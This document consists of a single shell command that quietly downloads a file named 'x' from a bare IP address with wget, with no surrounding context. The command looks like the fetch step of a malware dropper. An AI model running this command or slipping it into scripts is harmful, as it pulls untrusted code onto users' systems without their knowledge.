wget -q http://45.33.32.156/x
